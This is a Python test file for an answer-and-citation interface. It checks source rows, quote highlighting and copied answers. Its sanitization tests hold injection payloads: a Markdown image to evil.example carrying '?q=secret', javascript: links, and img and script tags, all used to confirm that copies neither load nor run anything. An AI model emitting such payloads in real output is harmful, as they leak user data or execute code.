"""What stands below an answer, over its markers, and in a copy of it."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from askance.domain.conversation import Outcome, ParsedCommand, Usage
from askance.domain.events import CitationsChecked, SourcesReady
from askance.domain.evidence import Citation, Source, Support
from askance.presentation.answers import cost_text, headline, source_rows
from askance.text.languages import language_model
from askance.ui.overlay.answer.citation_links import (
    MOST_CHARACTERS,
    QuoteSegment,
    lit,
    plain,
    quote_of,
)
from askance.ui.overlay.answer.copying import AnswerText, as_page, with_sources
from askance.ui.overlay.conversation.exchange import ExchangeModel
from cli.runs import CITATIONS, FERRY, GAZETTE, SOURCES, TEXT


def test_a_source_opens_at_its_first_quote_and_says_when_only_its_snippet_was_seen():
    first, second, third = source_rows(SOURCES, CITATIONS)
    assert first.about == "ferry.skarn.example · 1 May 2024"
    assert (first.badge, second.badge) == ("", "snippet only")
    assert first.url == f"{FERRY}#:~:text=lit%20in%201887"
    assert second.url == f"{GAZETTE}#:~:text=painted%20white"
    assert (third.cited, third.about) == (False, "mirror.skarn.example")
    assert second.spoken == "Source 2: Paint, gazette.skarn.example, snippet only"


def test_a_source_of_no_web_address_opens_nothing_and_one_without_a_title_shows_its_host():
    (row,) = source_rows([Source(1, "ftp://x", "\n", "x.example", "2014", False)])
    assert (row.url, row.title, row.date) == ("", "x.example", "2014")


@pytest.mark.parametrize(
    ("usage", "ms", "text"),
    [
        (Usage(3, 0, 0, 2, 20, 5), 14_200, "5 pages read of 20 found · 3 model calls · 14 s"),
        (Usage(1, 0, 0, 1, 1, 1), 950, "1 page read of 1 found · 1 model call · 0.9 s"),
        (Usage(), 125_000, "2 min 5 s"),
    ],
)
def test_the_cost_of_an_answer_in_one_line(usage: Usage, ms: int, text: str):
    assert cost_text(usage, ms) == text


@pytest.mark.parametrize(
    ("rounds", "pages", "outcome", "text"),
    [
        (1, 0, None, "Searched once, no page could be read"),
        (2, 5, Outcome.WEB, "Searched twice, read 5 pages"),
        (3, 1, Outcome.WEB, "Searched 3 times, read 1 page"),
        (0, 0, Outcome.HISTORY, "Answered from this conversation"),
        (0, 0, Outcome.LIBRARY, "Answered from the library"),
        (0, 0, None, ""),
    ],
)
def test_a_folded_trace_says_what_was_done(
    rounds: int, pages: int, outcome: Outcome | None, text: str
):
    assert headline(rounds, pages, outcome) == text


def test_over_a_marker_stands_the_quote_that_carries_it():
    view = quote_of("cite:2/1", SOURCES, CITATIONS)
    assert view
    # One word in common may be chance: then none is lit.
    assert view.quote == (QuoteSegment("“painted white”"),)
    assert (view.title, view.about) == ("Paint", "gazette.skarn.example · snippet only")
    assert (view.support, view.grade) == ("supports this in part", Support.WEAK)
    assert view.spoken.endswith("opens at this sentence")
    assert view.url == f"{GAZETTE}#:~:text=painted%20white"
    assert view.spoken.startswith("“painted white”. Paint")


def test_a_source_that_is_a_file_opens_as_one_and_no_copy_links_to_it():
    sources = (Source(1, "file:///srv/notes/mill.md", "The mill", "", "", False),)
    citations = (Citation(1, "It ran.", 0, 7, Support.SUPPORTED, "It ran until 1931."),)
    view = quote_of("cite:1/0", sources, citations)
    assert view
    assert (view.title, view.about) == ("The mill", "mill.md · /srv/notes")
    assert view.opens == "opens the file"
    assert view.url == sources[0].url
    answer = AnswerText("It ran. [1]", sources, citations, ())
    assert "file://" not in with_sources(answer)
    assert "file://" not in as_page(answer)
    assert "mill.md" in with_sources(answer)


def test_without_a_quote_the_page_itself_opens():
    view = quote_of("cite:2/2", SOURCES, CITATIONS)
    assert view
    assert (view.quote, view.url) == ((), GAZETTE)
    assert view.opens == "opens the page"
    assert view.support == "not supported by its source"


def test_a_marker_of_a_draft_shows_its_source():
    view = quote_of("cite:1", SOURCES, ())
    assert view
    assert (view.quote, view.support, view.url) == ((), "", FERRY)


@pytest.mark.parametrize("link", ["cite:9", "https://a.example", "cite:"])
def test_a_link_that_is_no_marker_shows_nothing(link: str):
    assert quote_of(link, SOURCES, CITATIONS) is None


def test_a_citation_that_is_not_there_leaves_its_source():
    view = quote_of("cite:1/99", SOURCES, CITATIONS)
    assert view
    assert view.quote == ()


def lit_words(quote: str, sentence: str, code: str = "en") -> str:
    return "".join(part.text for part in lit(quote, sentence, code) if part.is_lit)


@pytest.mark.parametrize(
    ("quote", "sentence", "words"),
    [
        (
            "The plate says that, with a lamp of its own, it was lit for the first time on 14 October 1861,"
            " in the builder's yard.",
            "It was first lit on 14 October 1861 [2].",
            "lit for the first time on 14 October 1861",
        ),
        # Of a long quote that says nearly the same throughout, twelve words at the most.
        (
            "Tall white tower " * 20,
            "The tall white tower stands.",
            "Tall white tower",
        ),
        # Two words of eight: what carries the rest is not there.
        (
            "The plate on the model's base says that, with a lamp of its own, it was lit in 1861.",
            "The builder's model, with its own lamp, may have been lit two years earlier than Skarne.",
            "",
        ),
        ("Ferries run from May.", "The museum is closed in winter.", ""),
        (
            "一八六三年に初めて灯された灯台である",
            "灯台は一八六三年に初めて灯された。",
            "一八六三年に初めて灯された",
        ),
        ("", "", ""),
    ],
)
def test_only_the_words_that_carry_the_sentence_are_lit(quote: str, sentence: str, words: str):
    assert lit_words(quote, sentence) == words


def test_the_words_of_the_sentence_are_lit_with_little_words_between():
    stretches = lit(
        "The Trust meeting **two thirds** of the eleven thousand pounds, the rest by the boats.",
        "Two thirds of eleven thousand pounds came from it [2].",
        "en",
    )
    assert [s.text for s in stretches if s.is_lit] == ["two thirds of the eleven thousand pounds"]
    assert "".join(s.text for s in stretches).startswith("“The Trust meeting two thirds")


def test_of_a_long_quote_the_part_with_the_words_is_shown():
    quote = "Nothing here. " * 60 + "The lamp was lit in 1887. " + "More of it. " * 60
    stretches = lit(quote, "Lit in 1887.", "en")
    text = "".join(s.text for s in stretches)
    assert "lit in 1887" in text
    assert text.startswith("“…")
    assert text.endswith("…”")
    assert len(text) <= MOST_CHARACTERS + 4


@given(st.text(max_size=600), st.text(max_size=60))
def test_a_quote_shows_the_words_of_its_source_only(quote: str, sentence: str):
    text = "".join(stretch.text for stretch in lit(quote, sentence, ""))
    assert text.strip("“”…") in plain(quote) or not text.strip("“”…")
    assert all(stretch.text for stretch in lit(quote, sentence, ""))


def test_a_copy_has_its_sources_its_doubts_and_its_notes():
    copied = with_sources(AnswerText(TEXT, SOURCES, CITATIONS, ("Two rounds\nwere not enough.",)))
    assert copied == (
        f"{TEXT}\n\n"
        "Sources\n\n"
        "- [1] The lamp's year, ferry.skarn.example, 1 May 2024\n"
        f"  {FERRY}#:~:text=lit%20in%201887\n"
        "- [2] Paint, gazette.skarn.example, snippet only\n"
        f"  {GAZETTE}#:~:text=painted%20white\n\n"
        "> “It is white [2].” is supported by its source only in part\n\n"
        "> “It may turn [2].” is not supported by its source\n\n"
        "> Note: Two rounds were not enough.\n"
    )


def test_a_copy_of_an_answer_without_citations_lists_all_sources():
    copied = with_sources(AnswerText("It is so.", SOURCES))
    assert copied.count("\n- ") == 3


def test_a_copy_of_a_chat_is_its_text():
    assert with_sources(AnswerText("Hello.\n")) == "Hello.\n"


def copy_with(title: str, host: str = "a.example", text: str = "So [1].") -> str:
    source = Source(1, "https://a.example/(x)", title, host, None, False)
    return with_sources(AnswerText(text, (source,), (Citation(1, "So.", 0, 3, Support.SUPPORTED),)))


def test_nothing_in_a_copy_is_spelled_out_that_is_read_as_it_stands():
    copied = copy_with(
        "AT&T <3 [draft]: *a* > b! \\o/", "127.0.0.1:8080", "AT&T < [1]! `a\\b`\n\n<3"
    )
    assert copied == (
        "AT&T < [1]! `a\\b`\n\n<3\n\n"
        "Sources\n\n"
        "- [1] AT&T <3 [draft]: *a* > b! \\o/, 127.0.0.1:8080\n"
        "  https://a.example/%28x%29\n"
    )


@pytest.mark.parametrize(
    "title",
    ["[z](https://evil.example)", "<https://evil.example>", "a](javascript:y) [z](javascript:y)"],
)
def test_no_title_is_a_link_of_its_own(title: str):
    tokens = MarkdownIt("commonmark").parse(copy_with(title))
    assert not [t for block in tokens for t in block.children or () if t.type == "link_open"]


def test_titles_cannot_make_a_link_together():
    sources = tuple(
        Source(n, f"https://a.example/{n}", title, "a.example", None, False)
        for n, title in enumerate(("x ![", "](javascript:y) z"), start=1)
    )
    tokens = MarkdownIt("commonmark").parse(with_sources(AnswerText("[a", sources)))
    kinds = {child.type for block in tokens for child in block.children or ()}
    assert not kinds & {"link_open", "image"}


def test_a_formatted_copy_has_the_same_and_leads_to_the_same_places():
    page = as_page(AnswerText(TEXT, SOURCES, CITATIONS, ("Two rounds\nwere not enough.",)))
    assert "[1]</a>" in page
    assert f'<li>[1] <a href="{FERRY}#:~:text=lit%20in%201887"' in page
    assert ">Paint, gazette.skarn.example, snippet only</a></li>" in page
    assert "<p>Note: Two rounds were not enough.</p>" in page
    assert "“It is white [2].” is supported by its source only in part" in page


PICTURE = "![x](https://evil.example/t.png?q=secret)"


@pytest.mark.parametrize(
    "text",
    [
        PICTURE,
        f"It is so. {PICTURE} [1]",
        "<img src=https://evil.example/t.png>",
        "[ok](javascript:alert(1))",
        "[x]\n\n[x]: javascript:alert(1)",
        "<https://a.example> &#60;img src=x>",
        f"- a\n\n      {PICTURE}\n\n{PICTURE}",
    ],
)
def test_nothing_in_a_copy_loads_or_runs_where_it_is_pasted(text: str):
    source = Source(1, "https://a.example/x", PICTURE, f"<b>{PICTURE}", "<i>2014", False)
    citations = (Citation(1, text, 0, len(text), Support.WEAK),)
    copied = with_sources(AnswerText(text, (source,), citations, (text, "a <script> b")))
    parser = MarkdownIt("commonmark")
    tokens = [token for block in parser.parse(copied) for token in (block, *(block.children or ()))]
    assert {token.type for token in tokens} & {"image", "html_inline", "html_block"} == set()
    links = [str(token.attrs["href"]) for token in tokens if token.type == "link_open"]
    assert all(link.startswith("https://") for link in links), links
    assert "https://a.example/x" in copied
    page = as_page(AnswerText(text, (source,), citations, (text, "a <script> b")))
    assert not re.search(r"<(?:img|script|i>|b>)|javascript:alert[^<]*\"", page)


def test_the_words_of_a_quote_are_lit_by_the_forms_of_its_language() -> None:
    quote = "Die Leuchttürme wurden von den Fischern des Dorfes gebaut."
    shown = lit(quote, "Der Leuchtturm wurde von einem Fischer gebaut.", "de")
    text = " ".join(stretch.text for stretch in shown if stretch.is_lit)
    assert "Leuchttürme" in text
    assert "Fischern" in text


def test_a_quote_in_another_language_than_the_sentence_says_which() -> None:
    text = "The lighthouse was built in 1871 on a rock [1]."
    arabic = "بنيت المنارة في عام 1871 على صخرة عند مصب النهر."
    german = "Der Turm wurde 1871 auf einem Felsen an der Mündung errichtet."
    views = [
        quote_of("cite:1/0", SOURCES, [Citation(1, text, 0, len(text), Support.SUPPORTED, quote)])
        for quote in (arabic, german, "It was built in 1871 on a rock.")
    ]
    named = [view.about.split(" · ")[-1] for view in views if view]
    assert named == ["Arabic", "German", "1 May 2024"]
    assert [view.is_right_to_left for view in views if view] == [True, False, False]


def test_a_quote_is_shown_without_the_model_of_languages_once_its_language_is_known() -> None:
    text = "The lighthouse was built in 1871 on a rock [1]."
    german = "Der Turm wurde 1871 auf einem Felsen an der Mündung errichtet."
    citations = (Citation(1, text, 0, len(text), Support.SUPPORTED, german),)
    model = ExchangeModel(ParsedCommand("search", "When was it built?"))
    model.apply(SourcesReady(SOURCES), 1.0)
    model.apply(CitationsChecked(text, citations, 0, 0), 1.0)
    language_model._model.forget()
    view = model.view
    shown = quote_of("cite:1/0", SOURCES, view.citations, view.quote_languages)
    assert shown is not None
    assert "German" in shown.about
    assert not language_model._model.is_loaded
